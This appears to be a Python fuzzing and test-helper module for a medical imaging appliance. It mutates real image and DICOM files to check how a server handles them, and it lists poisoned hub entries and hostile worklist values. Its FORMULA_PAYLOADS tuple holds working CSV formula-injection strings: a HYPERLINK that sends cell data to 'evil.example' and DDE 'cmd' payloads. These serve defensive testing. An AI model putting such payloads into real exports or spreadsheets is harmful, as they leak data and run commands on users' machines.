"""Mutated real files driven through a running ``appliance serve`` (tests and bench/fuzz.py).

Seeds are real files of every kind the doors take: the committed fundus photographs and
chest PNGs, TIFF and BigTIFF made from them, pydicom's and pydicom-data's DICOM files
(uncompressed, JPEG, JPEG-LS, JPEG 2000, RLE, multi-frame, colour) and a DICOM-wrapped
and a raw JPEG 2000 codestream. A seeded mutator flips bits, overwrites and zeroes runs,
splices, truncates, and rewrites size fields to lie (PNG IHDR with its CRC redone, JPEG
SOF, TIFF IFD, JPEG 2000 SIZ, DICOM Rows/Columns/frames/bits). The same seed gives the
same files, so a failure can be replayed.
"""

from __future__ import annotations

import json
import random
import sqlite3
import struct
import time
import urllib.error
import urllib.request
import zlib
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path

import cv2
import numpy as np
import pydicom
from crafted import dicom_image, saved, small_bigtiff, small_j2k
from helpers import FUNDUS_DIR, TESTS, testdata
from pydicom.encaps import encapsulate
from pydicom.uid import JPEG2000Lossless, generate_uid

DICOM_SEEDS = (
    "CT_small.dcm",
    "MR_small.dcm",
    "MR_small_RLE.dcm",
    "MR_small_jp2klossless.dcm",
    "SC_rgb.dcm",
    "SC_rgb_jpeg_dcmtk.dcm",
    "SC_rgb_rle.dcm",
    "SC_rgb_2frame.dcm",
    "SC_ybr_full_422_uncompressed.dcm",
    "JPEGLSNearLossless_16.dcm",
    "emri_small_jpeg_2k_lossless.dcm",
    "US1_J2KR.dcm",
)
SIZES = (0, 1, 15, 16, 17, 255, 1024, 4096, 9000, 20000, 40000, 65535)


def seeds(rg1_small: Path | None = None) -> list[tuple[str, bytes]]:
    """(name, bytes) of every seed file; ``rg1_small``: a dcmscale'd RG1 to add."""
    found: list[tuple[str, bytes]] = []
    for path in sorted(FUNDUS_DIR.glob("*.jpg")):
        photo = cv2.imread(str(path))
        small = cv2.resize(photo, (photo.shape[1] // 3, photo.shape[0] // 3))
        found.append((f"{path.stem}.jpg", cv2.imencode(".jpg", small)[1].tobytes()))
        found.append((f"{path.stem}.tif", cv2.imencode(".tif", small[::2, ::2])[1].tobytes()))
    for path in sorted((TESTS / "data" / "cxr64").glob("*.png"))[:4]:
        found.append((path.name, path.read_bytes()))
    grey = cv2.imread(str(sorted((TESTS / "data" / "cxr64").glob("*.png"))[0]), 0)
    found.append(("cxr16.tif", cv2.imencode(".tif", grey.astype(np.uint16) * 257)[1].tobytes()))
    found.append(("cxr16.png", cv2.imencode(".png", grey.astype(np.uint16) * 257)[1].tobytes()))
    found.append(("small.btf", small_bigtiff()))
    codestream = small_j2k()
    found.append(("raw.j2k", codestream))
    found.append(
        (
            "j2k.dcm",
            saved(
                dicom_image(encapsulate([codestream]), rows=64, columns=64, syntax=JPEG2000Lossless)
            ),
        )
    )
    for name in DICOM_SEEDS:
        found.append((name, testdata(name).read_bytes()))
    if rg1_small is not None:
        found.append(("rg1.dcm", rg1_small.read_bytes()))
    return found


def _fresh_dicom(raw: bytes) -> pydicom.Dataset:
    """The seed as a dataset with new UIDs: each mutant is a new image, not a duplicate."""
    ds = pydicom.dcmread(BytesIO(raw), force=True)
    ds.SOPInstanceUID = generate_uid()
    ds.file_meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
    return ds


def _to_bytes(ds: pydicom.Dataset) -> bytes:
    buffer = BytesIO()
    ds.save_as(buffer)
    return buffer.getvalue()


def _lie(rng: random.Random, name: str, raw: bytes) -> bytes:
    """Rewrite a size field of the file's own header."""
    size = rng.choice(SIZES) if rng.random() < 0.8 else rng.randint(1, 70000)
    other = rng.choice(SIZES)
    data = bytearray(raw)
    if data.startswith(b"\x89PNG") and len(data) > 33:
        struct.pack_into(">II", data, 16, size, other)
        struct.pack_into(">I", data, 29, zlib.crc32(bytes(data[12:29])))
    elif data.startswith(b"\xff\xd8") and (sof := raw.find(b"\xff\xc0")) > 0:
        struct.pack_into(">HH", data, sof + 5, size & 0xFFFF, other)
    elif data[:4] in (b"II*\x00",) and len(data) > 10:
        ifd = struct.unpack_from("<I", data, 4)[0]
        count = struct.unpack_from("<H", data, ifd)[0] if ifd + 2 <= len(data) else 0
        for index in range(min(count, 64)):
            entry = ifd + 2 + 12 * index
            if entry + 12 <= len(data) and struct.unpack_from("<H", data, entry)[0] in (256, 257):
                kind = struct.unpack_from("<H", data, entry + 2)[0]
                value = size if kind == 4 else size & 0xFFFF
                struct.pack_into("<I" if kind == 4 else "<H", data, entry + 8, value)
    elif (siz := raw.find(b"\xff\x4f\xff\x51")) >= 0 and siz + 16 <= len(data):
        struct.pack_into(">II", data, siz + 8, size, other)
    elif name.endswith(".dcm"):
        ds = _fresh_dicom(raw)
        keyword = rng.choice(
            ["Rows", "Columns", "NumberOfFrames", "BitsAllocated", "SamplesPerPixel"]
        )
        value = {
            "Rows": min(size, 65535),  # US: what the tag can hold
            "Columns": min(size, 65535),
            "BitsAllocated": rng.choice((1, 8, 12, 16, 32, 64)),
            "SamplesPerPixel": rng.choice((1, 2, 3, 4)),
        }.get(keyword, size)
        setattr(ds, keyword, value)
        return _to_bytes(ds)
    return bytes(data)


def mutate(rng: random.Random, name: str, raw: bytes) -> tuple[str, bytes]:
    """(mutation, mutated bytes) for one seed file."""
    if name.endswith(".dcm"):
        raw = _to_bytes(_fresh_dicom(raw))
    data = bytearray(raw)
    kind = rng.choice(
        ["flip", "head-flip", "truncate", "overwrite", "zero", "splice", "lie", "lie"]
    )
    if kind in ("flip", "head-flip"):
        span = len(data) if kind == "flip" else min(len(data), 512)
        for _ in range(rng.randint(1, 16)):
            at = rng.randrange(span)
            data[at] ^= 1 << rng.randrange(8)
    elif kind == "truncate":
        del data[rng.randrange(1, len(data)) :]
    elif kind in ("overwrite", "zero"):
        at, length = rng.randrange(len(data)), rng.randint(1, 64)
        fill = bytes(length) if kind == "zero" else rng.randbytes(length)
        data[at : at + length] = fill[: len(data) - at]
    elif kind == "splice":
        at, length = rng.randrange(len(data)), rng.randint(1, 4096)
        data[rng.randrange(len(data)) : 0] = data[at : at + length]
    else:
        return kind, _lie(rng, name, raw)
    return kind, bytes(data)


def mutants(count: int, seed: int, rg1_small: Path | None = None) -> Iterator[tuple[str, bytes]]:
    """``count`` (file name, bytes), round-robin over the seeds, reproducible by ``seed``."""
    rng = random.Random(seed)
    pool = seeds(rg1_small)
    for index in range(count):
        name, raw = pool[index % len(pool)]
        kind, data = mutate(rng, name, raw)
        yield f"{index:05d}-{kind}-{name}", data


@dataclass
class Tally:
    files: int = 0
    statuses: Counter = field(default_factory=Counter)  # stored, duplicate, quarantined
    http_5xx: int = 0
    no_reason: list[str] = field(default_factory=list)
    crashes: int = 0
    seconds: float = 0.0
    peak_rss_mb: int = 0
    outcomes: dict[str, int] = field(default_factory=dict)  # after the workers

    def row(self) -> dict:
        return {
            "files": self.files,
            "stored": self.statuses["stored"] + self.statuses["duplicate"],
            "quarantined_at_door": self.statuses["quarantined"],
            "screened": self.outcomes.get("decoded", 0),
            "quarantined_at_decode": self.outcomes.get("quarantined", 0),
            "jobs_failed": self.outcomes.get("failed", 0),
            "jobs_unfinished": self.outcomes.get("unfinished", 0),
            "5xx": self.http_5xx,
            "crashes": self.crashes,
            "peak_rss_mb": self.peak_rss_mb,
            "seconds": round(self.seconds, 1),
        }


def peak_rss_mb(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(status.split("VmHWM:")[1].split()[0]) // 1024


def drive(served, files: Iterator[tuple[str, bytes]], settle_seconds: float = 300) -> Tally:
    """Upload every file to ``served`` (a helpers.Served), then wait for the workers."""
    token = (served.data_dir / "secrets" / "api_token").read_text().strip()
    tally = Tally()
    started = time.monotonic()
    for name, data in files:
        tally.files += 1
        request = urllib.request.Request(
            f"{served.url}/api/upload",
            data=data,
            headers={"Authorization": f"Bearer {token}", "X-Filename": name},
        )
        try:
            with urllib.request.urlopen(request, timeout=60) as response:
                (result,) = json.load(response)["results"]
        except urllib.error.HTTPError as error:
            tally.http_5xx += error.code >= 500
            tally.statuses[f"http {error.code}"] += 1
            continue
        except OSError:
            tally.crashes += served.proc.poll() is not None
            tally.statuses["no answer"] += 1
            if served.proc.poll() is not None:
                break
            continue
        tally.statuses[result["status"]] += 1
        if result["status"] == "quarantined" and not result.get("reason"):
            tally.no_reason.append(name)
    tally.outcomes = _wait_for_workers(served, settle_seconds)
    tally.crashes += served.proc.poll() is not None
    tally.seconds = time.monotonic() - started
    if served.proc.poll() is None:
        tally.peak_rss_mb = peak_rss_mb(served.proc.pid)
    return tally


def _wait_for_workers(served, timeout: float) -> dict[str, int]:
    deadline = time.monotonic() + timeout
    db = f"file:{served.data_dir / 'appliance.db'}?mode=ro"
    while True:
        conn = sqlite3.connect(db, uri=True, timeout=30)
        try:
            jobs = dict(conn.execute("SELECT state, COUNT(*) FROM jobs GROUP BY state"))
            images = dict(conn.execute("SELECT state, COUNT(*) FROM images GROUP BY state"))
        finally:
            conn.close()
        busy = jobs.get("queued", 0) + jobs.get("running", 0)
        if not busy or time.monotonic() > deadline or served.proc.poll() is not None:
            return {**images, "failed": jobs.get("failed", 0), "unfinished": busy}
        time.sleep(0.5)


# -- poisoned hub entries (issue 25): what one hostile or buggy box may post ------------
# (name, kind, what is changed in a good entry's data, the field the hub must name).
# Each once reached the hub's store and took down FHIR search, the pusher or the
# dashboard for every site; the hub's door (appliance/hub/schemas.py) refuses them now.
POISONED_ENTRIES: list[tuple[str, str, dict, str]] = [
    ("null threshold", "result", {"probability": 0.9, "score": 90, "threshold": None},
     "threshold"),
    ("image as text", "result", {"image": "x"}, "image"),
    ("probability as text", "result", {"probability": "0.9", "score": 90, "threshold": 0.5},
     "probability"),
    ("probability above 1", "result", {"probability": 1.5, "score": 90, "threshold": 0.5},
     "probability"),
    ("score above 100", "result", {"probability": 0.9, "score": 900, "threshold": 0.5}, "score"),
    ("unknown route", "result", {"route": "=HYPERLINK(1)"}, "route"),
    ("not a date", "result", {"created_at": "XXYY"}, "created_at"),
    ("NUL in a name", "result", {"image": {"sha256": "ab" * 32, "patient_name": "a\x00b"}},
     "image.patient_name"),
    ("lone surrogate", "result", {"reason": "\ud800"}, "reason"),
    ("monitor summary of strings", "monitor",
     {"warnings": ["boom"], "calibration": {"cxr": "x"}}, "calibration.cxr"),
    ("monitor warning as text", "monitor", {"warnings": ["boom"]}, "warnings.0"),
    ("review verdict", "review", {"verdict": "maybe"}, "verdict"),
    ("outcome grade", "outcome", {"grade": 9}, "grade"),
]


def good_entry_data(kind: str, n: int = 1) -> dict:
    """Data of one entry of ``kind`` as a box sends it (the poisoned ones start here)."""
    image = {"sha256": f"{n:064x}"}
    when = "2026-03-02T10:00:00.000+00:00"
    if kind == "result":
        return {
            "image": {**image, "modality": "CR", "patient_id": f"P{n}"},
            "route": "chest_xray",
            "reason": None,
            "probability": 0.8,
            "score": 80,
            "threshold": 0.5,
            "triage": "urgent",
            "model": {"name": "cxr-pneumonia", "version": "1.0", "sha256": None},
            "created_at": when,
            "local_id": n,
        }
    if kind == "review":
        return {"image": image, "verdict": "agree", "reasons": [], "created_at": when}
    if kind == "outcome":
        return {
            "image": image,
            "test": "xpert",
            "result": "positive",
            "positive": True,
            "grade": None,
            "tested_on": "2026-03-01",
            "created_at": when,
        }
    return {
        "generated_at": when,
        "models": {"cxr-pneumonia": {"version": "1.0", "threshold": 0.5, "recent": 3}},
        "refused": 0.1,
        "calibration": {"cxr-pneumonia": {"version": "1.0", "threshold": 0.5, "source": "bundle"}},
        "health": {"disk_free_mb": 1000, "temperature_c": None, "oldest_waiting_minutes": 0},
        "warnings": [{"code": "no_reference", "message": "No reference.", "model": "cxr"}],
    }


# -- CSV formula injection: text a box, a lab register or an admin may choose, which a
# spreadsheet would run if a CSV wrote it as it is (appliance/wire/csv_safe.py).
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


# -- Modality worklist: values a hostile RIS answers (tests/pacs/test_worklist_hostile.py;
# appliance/pacs/worklist.py checks each). Flood sizes are in that test.
WORKLIST_BAD_TIMES = ("XXYY", "2561", "99", "1", "12:3", "0930.xyz", "9" * 40, "", "24")
WORKLIST_CONTROL_NAMES = (
    "Banda\x1b\x07\r\n^Amina\x7f\u202e\u0085",  # needs a UTF-8 answer (ISO_IR 192)
    "Phiri\x1b(B^Jo\x00seph\x0c",
)
